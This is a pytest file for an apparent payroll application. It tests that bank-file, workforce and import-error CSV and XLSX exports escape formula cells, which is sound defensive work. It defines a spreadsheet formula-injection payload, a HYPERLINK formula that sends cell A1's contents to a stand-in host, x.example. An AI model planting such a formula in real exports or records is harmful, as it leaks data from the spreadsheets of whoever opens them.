"""Defect 4: every CSV and XLSX Pilar writes escapes cells that would run as formulas, the payroll bank file too."""

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

from pilar.incentives import exports as payroll_exports
from pilar.incentives import services as payroll
from pilar.regional.loader import load_shipped_pack
from pilar.workers.exports import csv_response, xlsx_response
from pilar.workers.models import Worker
from tests.factories import WorkerFactory

ATTACK = '=HYPERLINK("http://x.example/?"&A1;"klik")'
PILAR = Path(__file__).resolve().parents[2] / "pilar"
# Files that write CSV for machines, never for a person's spreadsheet: the benchmark's synthetic input.
NOT_FOR_SPREADSHEETS = {"registry/synth.py"}


def xlsx_cells(data: bytes) -> list:
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return [cell for row in book.get_sheet_by_index(0).to_python() for cell in row]


@pytest.fixture
def june_run(operator, admin_user, city):
    load_shipped_pack("36.71")
    worker = WorkerFactory(joined_on=date(2019, 1, 1), status_date=date(2019, 1, 1))
    Worker.objects.filter(pk=worker.pk).update(account_holder=ATTACK)
    run = payroll.payroll_generate(period=date(2026, 6, 1), actor=operator)
    return payroll.payroll_approve(run=run, actor=admin_user)


def test_payroll_bank_csv_escapes_the_account_holder(june_run):
    text = payroll_exports.bank_csv(june_run).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert "'" + ATTACK in cells and ATTACK not in cells


def test_payroll_bank_xlsx_escapes_the_account_holder(june_run):
    cells = xlsx_cells(payroll_exports.bank_xlsx(june_run))
    assert "'" + ATTACK in cells and ATTACK not in cells


def test_workforce_exports_escape_names(operator, city):
    worker = WorkerFactory()
    worker.person.name = ATTACK
    worker.person.save()
    workers = Worker.objects.all()
    text = b"".join(csv_response(workers, operator).streaming_content).decode("utf-8-sig")
    assert "'" + ATTACK in [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + ATTACK in xlsx_cells(b"".join(xlsx_response(workers, operator).streaming_content))


def test_import_error_file_escapes_the_values_it_echoes():
    from pilar.core.sheets import ErrorLog

    log = ErrorLog()
    log.add((2, "Nama Lengkap", "Nama", "Budi", ATTACK, "Nama tidak valid."))  # the six columns of every problem
    assert "'" + ATTACK in [cell for row in csv.reader(io.StringIO(log.content())) for cell in row]


def test_every_writer_of_spreadsheets_goes_through_the_escaping_helper():
    writers = re.compile(r"csv\.writer\(|xlsxwriter\.Workbook\(")
    unescaped = []
    for path in PILAR.rglob("*.py"):
        name = path.relative_to(PILAR).as_posix()
        text = path.read_text(encoding="utf-8")
        if name == "core/cells.py" or name in NOT_FOR_SPREADSHEETS or not writers.search(text):
            continue
        if not re.search(r"\bsafe_(cell|row)\b|\bcsv_lines\b|\bxlsx_file\b", text):
            unescaped.append(name)
    assert not unescaped, f"write spreadsheet cells through pilar.core.cells: {unescaped}"
